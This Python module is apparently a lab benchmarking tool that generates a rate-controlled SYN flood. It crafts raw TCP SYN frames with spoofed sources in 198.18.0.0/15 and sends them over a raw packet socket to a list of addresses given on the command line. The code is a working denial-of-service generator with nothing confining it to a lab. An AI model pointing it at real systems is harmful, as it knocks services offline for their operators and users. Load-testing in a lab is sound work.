"""A flood of first packets: SYNs that nobody means, each with another source.

The sources are in 198.18.0.0/15 (benchmarks' own range): what answers them goes to the switch of
the lab and ends there. Frames differ only in fields whose changes cancel out in the checksums, so
that one ``struct.pack`` makes each; that leaves Python fast enough to flood.

Started bare, with the standard library alone (see ``children``). Words: CORE, interface, its MAC,
the MAC of the node, JSON list of [address, port] to flood in turn, SYNs a second, seconds. Prints
[SYNs sent, seconds] at the end. It ends by itself.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import time
from collections.abc import Callable, Sequence

_FRAME = struct.Struct("!6s6sH BBHHHBBH2sHHH HHHHHHHHHH")
_PORTS = range(1024, 65536)
_SOURCE = b"\xc6\x12"  # 198.18
_BATCH = 64
_SYN = 0x5002
_WINDOW = 64240


def fold(data: bytes) -> int:
    """Give the internet checksum of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def maker(source_mac: bytes, target_mac: bytes, to: tuple[str, int]) -> Callable[[int], bytes]:
    """Give what makes the n-th SYN to an IPv4 address and port."""
    target = socket.inet_aton(to[0])
    high, low = struct.unpack("!HH", target)

    def frame(address: int, port: int, ip_sum: int, tcp_sum: int) -> bytes:
        # What the source address adds to the sums, the IP id and the high half of the sequence
        # number take away again; what the port adds, the low half.
        return _FRAME.pack(
            target_mac,
            source_mac,
            0x0800,
            0x45,
            0,
            40,
            0xFFFF - address,
            0,
            64,
            6,
            ip_sum,
            _SOURCE,
            address,
            high,
            low,
            port,
            to[1],
            0xFFFF - address,
            0xFFFF - port,
            0,
            0,
            _SYN,
            _WINDOW,
            tcp_sum,
            0,
        )

    first = frame(1, 1, 0, 0)
    ip_sum = fold(first[14:34])
    tcp_sum = fold(first[34:54] + first[26:34] + struct.pack("!HH", 6, 20))

    def make(number: int) -> bytes:
        port = _PORTS[number * 7919 % len(_PORTS)]
        return frame(1 + number // len(_PORTS) + number % 60_000, port, ip_sum, tcp_sum)

    return make


def flood(
    interface: str, makers: Sequence[Callable[[int], bytes]], rate: float, seconds: float
) -> tuple[int, float]:
    """Send ``rate`` SYNs a second, or as many as one core can; give how many in what time."""
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((interface, 0))
        start = now = time.monotonic()
        while now - start < seconds:
            if sent > (now - start) * rate:
                time.sleep(0.0005)
            else:
                for number in range(sent, sent + _BATCH):
                    raw.send(makers[number % len(makers)](number))
                sent += _BATCH
            now = time.monotonic()
    return sent, now - start


def main(words: Sequence[str]) -> None:
    """Flood as the words say."""
    core, interface, source, target, wanted, rate, seconds = words
    os.sched_setaffinity(0, {int(core)})
    macs = [bytes.fromhex(mac.replace(":", "")) for mac in (source, target)]
    makers = [maker(macs[0], macs[1], (address, port)) for address, port in json.loads(wanted)]
    print(json.dumps(flood(interface, makers, float(rate), float(seconds))), flush=True)
